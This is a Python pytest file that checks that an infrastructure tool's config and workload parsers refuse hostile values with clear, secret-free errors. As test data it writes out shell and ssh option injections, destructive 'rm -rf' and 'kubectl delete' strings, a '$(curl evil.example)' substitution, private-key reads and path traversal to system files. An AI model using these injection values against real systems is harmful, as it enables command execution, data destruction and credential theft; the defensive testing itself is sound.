"""The hostile-input battery: malformed and hostile values across every section of a stack's
configuration and of a workload definition, each refused before any resource is created (the
parsers run before `stacks/__main__.py` registers anything), naming the key and the fix, and never
echoing a secret. The count in docs/troubleshooting.md comes from `len(CASES)` (see test_the_battery_is_counted)."""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest

from infra.config import AtlasConfigError, check_secrets_are_secret, parse_stack_config
from infra.workload.model import WorkloadError
from infra.workload.parse import parse_workload
from tests.support import REPO_ROOT
from tests.unit.test_any_workload import folder_definition

SECRET = "hunter2-DO-NOT-ECHO"
PRIVATE_KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA" + SECRET + "\n-----END OPENSSH PRIVATE KEY-----\n"
)
KNOWN_HOSTS = "[127.0.0.1]:16022 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZ0b2tlbnRvYmVyZXBsYWNlZGJ5YXJlYWxrZXk=\n"

BASE: dict[str, Any] = {
    "workload": "probe",
    "runId": "1",
    "openshift": {
        "flavour": "kubernetes",
        "namespace": "atlas-local",
        "kubeconfig": ".state/kubeconfig",
        "image": {"reference": "quay.io/atlas/probe:1"},
    },
    "hpc": {
        "satori": {
            "scheduler": "slurm",
            "host": "satori-login.mit.edu",
            "user": "alex",
            "queue": "normal",
            "known_hosts": KNOWN_HOSTS,
            "private_key_file": "/home/alex/.ssh/id_ed25519",
        }
    },
    "aws": {"region": "us-east-1", "endpoint_url": "http://127.0.0.1:16500", "ami": "ami-1e749f67"},
}


def with_value(path: str, value: Any) -> dict[str, Any]:
    """BASE with `value` at the dotted `path` (a trailing `+` appends an unknown key)."""
    config = copy.deepcopy(BASE)
    *parents, last = path.split(".")
    node = config
    for part in parents:
        node = node.setdefault(part, {})
    node[last] = value
    return config


# (the config path, the value, the key the message must start with)
CONFIG_CASES: list[tuple[str, Any, str]] = [
    # top level
    ("workload", "../../etc/passwd", "atlas:workload"),
    ("workload", "probe; rm -rf ~", "atlas:workload"),
    ("workload", {"name": "probe"}, "atlas:workload"),
    ("runId", "1; reboot", "atlas:runId"),
    ("runId", "x" * 200, "atlas:runId"),
    ("runId", "Run 1", "atlas:runId"),
    ("workloadSource", "", "atlas:workloadSource"),
    ("telemetry", {"interval": 1}, "atlas:*"),
    # the OpenShift side
    ("openshift.namespace", "atlas; kubectl delete ns default", "atlas:openshift.namespace"),
    ("openshift.namespace", "-leading-dash", "atlas:openshift.namespace"),
    ("openshift.namespace", "a" * 64, "atlas:openshift.namespace"),
    ("openshift.namespace", 7, "atlas:openshift.namespace"),
    ("openshift.flavour", "docker-swarm", "atlas:openshift.flavour"),
    ("openshift.image", {"reference": "quay.io/atlas/probe:1 --privileged"}, "atlas:openshift.image.reference"),
    ("openshift.image", {"reference": "$(curl evil.example)"}, "atlas:openshift.image.reference"),
    ("openshift.image", {}, "atlas:openshift.image"),
    ("openshift.nodeSelector", {"gpu": "yes"}, "atlas:openshift"),
    ("openshift.enabled", "yes please", "atlas:openshift.enabled"),
    ("openshift.storage", {"data": {"size": "-10Gi"}}, "atlas:openshift.storage.data.size"),
    ("openshift.storage", {"data": {"size": "10GB"}}, "atlas:openshift.storage.data.size"),
    ("openshift.gpu", {"product": "Tesla V100; rm"}, "atlas:openshift.gpu.product"),
    ("openshift.placement", {"node_selector": {"bad key!": "x"}}, "atlas:openshift.placement.node_selector"),
    ("openshift.placement", {"tolerations": [{"key": "a", "operator": "Sometimes"}]},
     "atlas:openshift.placement.tolerations"),
    ("openshift.quota", {"gpus": -1}, "atlas:openshift.quota"),
    ("openshift.pipeline", {"backoff_limit": 10**9}, "atlas:openshift.pipeline.backoff_limit"),
    ("openshift.monitor", {"host": "evil.example/../x"}, "atlas:openshift.monitor.host"),
    # The login proxy is OpenShift's: on plain Kubernetes there is no OAuth server to send users to.
    ("openshift.monitor", {"proxy_image": "quay.io/openshift/origin-oauth-proxy:4.16"}, "atlas:openshift.monitor"),
    # the HPC side: option injection into ssh, bsub, sbatch; paths; types; ranges; secrets
    ("hpc.satori.host", "-oProxyCommand=sh -c 'id>/tmp/pwned'", "atlas:hpc.satori.host"),
    ("hpc.satori.host", "login.mit.edu extra", "atlas:hpc.satori.host"),
    ("hpc.satori.user", "-oProxyCommand=id", "atlas:hpc.satori.user"),
    ("hpc.satori.user", "alex;id", "atlas:hpc.satori.user"),
    ("hpc.satori.port", 70000, "atlas:hpc.satori.port"),
    ("hpc.satori.port", "22; id", "atlas:hpc.satori.port"),
    ("hpc.satori.port", True, "atlas:hpc.satori.port"),
    ("hpc.satori.queue", "normal -o /etc/passwd", "atlas:hpc.satori.queue"),
    ("hpc.satori.queue", "gpu\n#SBATCH --uid=0", "atlas:hpc.satori.queue"),
    ("hpc.satori.account", "lab; scancel -u alex", "atlas:hpc.satori.account"),
    ("hpc.satori.extra_directives", ["--uid=0\n#!/bin/sh"], "atlas:hpc.satori.extra_directives"),
    ("hpc.satori.extra_directives", ["--job-name=other"], "atlas:hpc.satori.extra_directives"),
    ("hpc.satori.skip_directives", "--time", "atlas:hpc.satori.skip_directives"),
    ("hpc.satori.scheduler", "pbs", "atlas:hpc.satori.scheduler"),
    ("hpc.satori.remote_work_dir", "../../etc", "atlas:hpc.satori.remote_work_dir"),
    ("hpc.satori.remote_work_dir", "/tmp/$(id)", "atlas:hpc.satori.remote_work_dir"),
    ("hpc.satori.poll_interval_seconds", 0, "atlas:hpc.satori.poll_interval_seconds"),
    ("hpc.satori.poll_interval_seconds", "fast", "atlas:hpc.satori.poll_interval_seconds"),
    ("hpc.satori.known_hosts", "not a host key line", "atlas:hpc.satori.known_hosts"),
    ("hpc.satori.private_key_passphrase", ["a", SECRET], "atlas:hpc.satori.private_key_passphrase"),
    ("hpc.satori.private_key_file", PRIVATE_KEY, "atlas:hpc.satori"),
    ("hpc.satori.wait_for", "make-hdf5", "atlas:hpc.satori.wait_for"),
    ("hpc.satori.provenance", "", "atlas:hpc.satori.provenance"),
    ("hpc.satori.password", SECRET, "atlas:hpc.satori"),
    ("hpc.Satori_1", {"host": "h"}, "atlas:hpc (environment name 'Satori_1')"),
    # the AWS side
    ("aws.region", "mars-1", "atlas:aws.region"),
    ("aws.instance_type", "p3.8xlarge; curl x", "atlas:aws.instance_type"),
    ("aws.instance_count", 10**6, "atlas:aws.instance_count"),
    ("aws.market", "free", "atlas:aws.market"),
    ("aws.ami", "ami-../../x", "atlas:aws.ami"),
    ("aws.allowed_ssh_cidrs", ["0.0.0.0/0"], "atlas:aws.allowed_ssh_cidrs"),
    ("aws.allowed_ssh_cidrs", ["10.0.0.0/33"], "atlas:aws.allowed_ssh_cidrs"),
    ("aws.ssh_public_key", PRIVATE_KEY, "atlas:aws.ssh_public_key"),
    ("aws.root_volume_gib", -5, "atlas:aws.root_volume_gib"),
    ("aws.secret_access_key", SECRET, "atlas:aws"),
    ("aws.execute", True, "atlas:aws.execute"),
    ("aws.endpoint_url", "http://s3.example.com", "atlas:aws.endpoint_url"),
    # backfill
    ("backfill", {"gpus": 0}, "atlas:backfill.gpus"),
    ("backfill", {"workload": "../../secret"}, "atlas:backfill.workload"),
    ("backfill", {"priority": "max"}, "atlas:backfill.priority"),
]


def workload_with(path: str, value: Any) -> dict[str, Any]:
    definition = folder_definition()
    node: Any = definition
    *parents, last = path.split(".")
    for part in parents:
        node = node[int(part)] if part.isdigit() else node[part]
    if last.isdigit():
        node[int(last)] = value
    else:
        node[last] = value
    return definition


WORKLOAD_CASES: list[tuple[str, Any, str]] = [
    ("name", "Mine; rm -rf /", "name"),
    ("version", 2, "version"),
    ("source", {"folder": "../../home/alex/.ssh"}, "source.folder"),
    ("source", {"folder": "/etc"}, "source.folder"),
    ("source", {"repository": "file:///etc", "branch": "main", "commit": "a" * 40}, "source.repository"),
    ("source", {"repository": "https://github.com/x/y", "branch": "main; id", "commit": "a" * 40}, "source.branch"),
    ("source", {"repository": "https://github.com/x/y", "branch": "main", "commit": "HEAD"}, "source.commit"),
    ("steps.0.name", "Make_Step", "steps[0].name"),
    ("steps.0.command", "sh make.sh", "steps[0].command"),
    ("steps.0.args", ["--out", "$(cat ~/.ssh/id_ed25519)"], "steps[0].args[1]"),
    ("steps.0.args", ["--x", "`id`"], "steps[0].args[1]"),
    ("steps.0.args", ["--lr", 1.0e-4], "steps[0].args[1]"),
    ("steps.0.env", {"LD_PRELOAD=/tmp/x.so": "1"}, "steps[0].env"),
    ("steps.0.resources", {"nodes": 1, "gpus_per_node": 99, "cpus_per_task": 1, "memory": "1Gi",
                           "walltime": "00:01:00"}, "steps[0].resources.gpus_per_node"),
    ("steps.0.resources", {"nodes": 1, "gpus_per_node": 0, "cpus_per_task": 1, "memory": "64G",
                           "walltime": "00:01:00"}, "steps[0].resources.memory"),
    ("steps.0.resources", {"nodes": 1, "gpus_per_node": 0, "cpus_per_task": 1, "memory": "1Gi",
                           "walltime": 3600}, "steps[0].resources.walltime"),
    ("steps.0.resources", {"nodes": 0, "gpus_per_node": 0, "cpus_per_task": 1, "memory": "1Gi",
                           "walltime": "00:01:00"}, "steps[0].resources.nodes"),
    ("data", {"outputs": [{"name": "out", "path": "../../../etc/cron.d/x"}]}, "data.outputs[0].path"),
    ("data", {"outputs": [{"name": "out", "path": "results/out.txt; id"}]}, "data.outputs[0].path"),
    ("logs", {"root": "/var/log"}, "logs.root"),
    ("telemetry", {"root": "telemetry", "interval_seconds": 0}, "telemetry.interval_seconds"),
    ("report", {"throughput": {"file": "logs/r", "pattern": "(?P<value>", "unit": "x/s"}}, "report.throughput.pattern"),
    ("description", "line one\nline two", "description"),
    ("surprise", {"a": 1}, "(top level)"),
]

# Secrets in plain text (set without --secret): (the atlas: key, its value, the key path named).
SECRET_CASES: list[tuple[str, Any, str]] = [
    ("hpc", {"satori": {"private_key": PRIVATE_KEY}}, "atlas:hpc.satori.private_key"),
    ("hpc", {"satori": {"private_key_passphrase": SECRET}}, "atlas:hpc.satori.private_key_passphrase"),
    ("hpc", {"satori": {"known_hosts": PRIVATE_KEY}}, "atlas:hpc.satori.known_hosts"),
    ("aws", {"secret_access_key": SECRET}, "atlas:aws.secret_access_key"),
    ("openshift", {"data": {"sources": [{"input": "x", "url": PRIVATE_KEY}]}}, "atlas:openshift.data.sources[0].url"),
]

CASES = (
    [("config", *case) for case in CONFIG_CASES]
    + [("workload", *case) for case in WORKLOAD_CASES]
    + [("secret", *case) for case in SECRET_CASES]
)


def refusal(kind: str, path: str, value: Any) -> str:
    if kind == "secret":
        with pytest.raises(AtlasConfigError) as error:
            check_secrets_are_secret({path: value}, frozenset())
        # Set with --secret, the same value passes (the engine reports the key as secret).
        check_secrets_are_secret({path: value}, frozenset({f"atlas:{path}"}))
    elif kind == "config":
        with pytest.raises(AtlasConfigError) as error:
            parse_stack_config("hostile", with_value(path, value), REPO_ROOT)
    else:
        with pytest.raises(WorkloadError) as error:
            parse_workload(workload_with(path, value))
    return str(error.value)


@pytest.mark.parametrize(
    ("kind", "path", "value", "key"), CASES, ids=[f"{c[0]}:{c[1]}:{i}" for i, c in enumerate(CASES)]
)
def test_hostile_value_is_refused_naming_the_key_and_the_fix_never_the_secret(
    kind: str, path: str, value: Any, key: str
) -> None:
    message = refusal(kind, path, value)
    assert message.startswith(key), message
    # A fix: every message says what to do after what is wrong.
    assert re.search(r"[;:] ", message[len(key):]), message
    assert SECRET not in message, message
    assert "PRIVATE KEY-----" not in message or "PRIVATE KEY-----\n" not in message, message


def test_the_battery_is_counted() -> None:
    """docs/troubleshooting.md says how many hostile values the battery holds; the number comes from here."""
    doc = (REPO_ROOT / "docs" / "troubleshooting.md").read_text()
    found = re.search(r"hostile-input battery: \*\*(\d+) cases\*\*", doc)
    assert found is not None, "docs/troubleshooting.md: say `hostile-input battery: **N cases**`"
    assert int(found.group(1)) == len(CASES)
    assert len(CASES) >= 50
